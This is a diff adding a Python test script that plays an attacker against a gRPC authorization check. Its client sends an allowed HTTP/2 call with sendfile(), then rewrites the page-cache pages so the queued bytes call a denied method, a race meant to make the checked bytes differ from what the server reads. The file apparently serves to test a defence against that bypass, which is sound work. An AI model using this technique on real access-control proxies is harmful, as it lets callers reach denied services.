@@ -1,0 +1,126 @@
+#!/usr/bin/env python3
+"""A caller that sends a gRPC call from its page cache and rewrites the file
+right after (issue 11's attacker: the bytes a verdict read must be the bytes
+the server reads).
+
+  sendfile_race.py client HOST PORT ALLOWED DENIED [AFTER]
+      sends the preface and SETTINGS, then writes a call to ALLOWED (HEADERS +
+      DATA) to a file and sends it with sendfile() (the socket's buffers then hold the file's
+      page cache pages, zero-copy, as far as the server's host), then rewrites
+      the file in place so the same bytes call DENIED (the header block keeps
+      its length: a padding header gives up what the longer :path takes).
+      Prints "sent N" and keeps the connection open for a second.
+
+  sendfile_race.py server PORT DELAY
+      accepts one connection, waits DELAY seconds (a busy server reads late),
+      then reads until the caller closes and prints the :path of every
+      request HEADERS frame it read ("path /pkg.Svc/Method"), decoded with
+      python-hpack; "closed" or "reset" at the end. The preface and the
+      SETTINGS frame are read as they come.
+"""
+import os
+import socket
+import sys
+import tempfile
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(ftype, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name, value):
+    """a literal header field without indexing, new name (table-neutral)"""
+    assert len(name) < 127 and len(value) < 127
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def block(path, size):
+    """a request header block of exactly `size` bytes calling `path`"""
+    head = (b"\x83\x86"                                      # :method POST, :scheme http
+            + b"\x04" + bytes([len(path)]) + path            # :path, literal, indexed name
+            + b"\x01\x01x"                                   # :authority x
+            + b"\x0f\x10\x10application/grpc"                # content-type
+            + literal(b"te", b"trailers"))
+    pad = size - len(head) - len(literal(b"x-pad", b""))
+    assert 0 <= pad < 127, pad
+    return head + literal(b"x-pad", b"y" * pad)
+
+
+def call(path, size):
+    msg = b"\x00\x00\x00\x00\x02\x08\x01"  # gRPC frame: DoorRequest{door_id: 1}
+    return frame(1, 0x4, 1, block(path, size)) + frame(0, 0x1, 1, msg)
+
+
+def client(host, port, allowed, denied, after="0.2"):
+    allowed, denied = allowed.encode(), denied.encode()
+    size = 110
+    first, second = call(allowed, size), call(denied, size)
+    assert len(first) == len(second)
+    with tempfile.TemporaryFile(dir="/var/tmp") as f:
+        f.write(first)
+        f.flush()
+        s = socket.create_connection((host, int(port)))
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        s.sendall(PREFACE + frame(4, 0, 0, b""))
+        time.sleep(0.1)  # the server has read these: the connection is walked
+        n = os.sendfile(s.fileno(), f.fileno(), 0, len(first))
+        time.sleep(float(after))
+        os.pwrite(f.fileno(), second, 0)  # the same pages, the call now to `denied`
+        print("sent", n, flush=True)
+        time.sleep(1)
+        s.close()
+
+
+def server(port, delay):
+    import hpack
+    ls = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    ls.bind(("::", int(port)))
+    ls.listen(1)
+    c, _ = ls.accept()
+    c.settimeout(10)
+    data, end = b"", "closed"
+    while len(data) < len(PREFACE) + 9:  # the preface and SETTINGS: read at once
+        b = c.recv(len(PREFACE) + 9 - len(data))
+        if not b:
+            break
+        data += b
+    time.sleep(float(delay))
+    while True:
+        try:
+            b = c.recv(65536)
+        except ConnectionResetError:
+            end = "reset"
+            break
+        if not b:
+            break
+        data += b
+    if data.startswith(PREFACE):
+        data = data[len(PREFACE):]
+    dec = hpack.Decoder()
+    while len(data) >= 9:
+        n = int.from_bytes(data[:3], "big")
+        ftype, flags, payload = data[3], data[4], data[9:9 + n]
+        if len(payload) < n:
+            break
+        data = data[9 + n:]
+        if ftype == 1:
+            try:
+                for name, value in dec.decode(payload, raw=True):
+                    if name == b":path":
+                        print("path", value.decode(errors="replace"), flush=True)
+            except hpack.HPACKError as e:
+                print("hpack error", e, flush=True)
+    print(end, flush=True)
+
+
+if __name__ == "__main__":
+    if len(sys.argv) in (6, 7) and sys.argv[1] == "client":
+        client(*sys.argv[2:])
+    elif len(sys.argv) == 4 and sys.argv[1] == "server":
+        server(*sys.argv[2:])
+    else:
+        sys.exit(__doc__)
